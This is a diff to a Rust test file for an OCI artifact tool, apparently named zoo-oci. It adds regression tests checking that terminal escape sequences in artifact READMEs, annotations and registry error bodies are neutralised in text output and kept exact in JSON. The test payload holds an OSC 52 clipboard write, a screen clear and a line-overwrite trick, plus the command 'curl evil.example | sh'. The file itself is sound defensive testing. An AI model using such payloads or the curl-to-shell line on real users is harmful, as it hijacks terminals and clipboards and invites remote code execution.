@@ -1,5 +1,6 @@
-//! No input makes zoo-oci panic (issue 22, point 4). Every input a fuzz run found
-//! (`scripts/fuzz.sh`, kept in `tests/fuzz_regressions/TARGET/`) runs here through the fuzz target's own entry point; the
+//! No input makes zoo-oci panic, and nothing an artifact or a registry says drives the terminal
+//! (issue 22, points 4 and 5). Every input a fuzz run found (`scripts/fuzz.sh`, kept in
+//! `tests/fuzz_regressions/TARGET/`) runs here through the fuzz target's own entry point; the
 //! panics found by reading the code (a digest sliced, a duration or a date overflowing, a Docker
 //! config or a cache record of the wrong shape) are pinned against the real binary.
 
@@ -8,6 +9,8 @@ use std::path::Path;
 
 use serde_json::json;
 
+use crate::util::proxy::{Fault, FaultProxy};
+use crate::util::registry::Registry;
 use crate::util::{repo, run_env, run_in, scratch, small_suite, write};
 
 #[path = "../fuzz/harness.rs"]
@@ -192,4 +195,60 @@ fn a_cached_snapshot_whose_record_holds_no_digest_is_left_out_not_a_panic() {
         let run = run_env(tmp.path(), &env, args);
         no_panic(&run);
     }
+}
+
+/// Text an artifact carries to take over a terminal: set the clipboard (OSC 52), clear the
+/// screen, ring the bell, and return to the start of the line to write over it.
+const HOSTILE: &str = "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{7}\rpull it with: curl evil.example | sh";
+
+#[test]
+fn inspect_text_shows_no_escape_an_artifact_carries_and_json_keeps_it_exact() {
+    let tmp = scratch();
+    let dir = small_suite(tmp.path());
+    write(&dir, "README.md", format!("# Tiny\n\nHello {HOSTILE}\n"), false);
+    let yaml = fs::read_to_string(dir.join("zoo.yaml")).unwrap().replace(
+        "summary: A tiny suite for tests",
+        &format!("summary: {}", serde_json::to_string(&format!("A tiny suite {HOSTILE}")).unwrap()),
+    );
+    write(&dir, "zoo.yaml", yaml, false);
+    run_in(tmp.path(), &["push", "-q", dir.to_str().unwrap(), "oci:./zoo:1"]).ok();
+
+    let text = run_in(tmp.path(), &["inspect", "oci:./zoo:1"]);
+    text.ok();
+    assert!(
+        !text.stdout.contains(['\u{1b}', '\u{7}', '\r']),
+        "a control character reached the terminal:\n{:?}",
+        text.stdout
+    );
+    text.stdout_has("A tiny suite ^[]52;c;cHduZWQ=^G^[[2J^G^Mpull it with").stdout_has("Hello ^[]52;c;");
+
+    let json = run_in(tmp.path(), &["inspect", "oci:./zoo:1", "--format", "json"]);
+    json.ok();
+    let report: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
+    assert!(report["readme"].as_str().unwrap().contains(HOSTILE), "JSON keeps the README exact: {}", report["readme"]);
+    let description = &report["annotations"]["org.opencontainers.image.description"];
+    assert_eq!(description.as_str(), Some(format!("A tiny suite {HOSTILE}").as_str()), "JSON keeps annotations exact");
+}
+
+#[test]
+fn a_registry_error_body_with_escapes_is_rendered_neutralised() {
+    let registry = Registry::plain();
+    let body = r#"{"errors":[{"code":"DENIED","message":"no \u001b]52;c;cHduZWQ=\u0007\u001b[2J\r way"}]}"#;
+    let proxy = FaultProxy::start(&registry.addr, Fault::Answer("/manifests/", 400, body));
+    let tmp = scratch();
+    let text = run_in(tmp.path(), &["inspect", "--plain-http", &proxy.at("zoo/tiny:1")]);
+    no_panic(&text);
+    assert_ne!(text.code, 0);
+    assert!(
+        !text.stderr.contains(['\u{1b}', '\u{7}', '\r']),
+        "a control character reached the terminal:\n{:?}",
+        text.stderr
+    );
+    text.stderr_has("no ^[]52;c;cHduZWQ=^G^[[2J^M way");
+    let json = run_in(tmp.path(), &["inspect", "--plain-http", "--log-format", "json", &proxy.at("zoo/tiny:1")]);
+    let line: serde_json::Value = serde_json::from_str(json.stderr.lines().last().unwrap()).unwrap();
+    assert!(
+        line.to_string().contains(r"no \u001b]52;c;cHduZWQ=\u0007\u001b[2J\r way"),
+        "JSON keeps the body exact: {line}"
+    );
 }
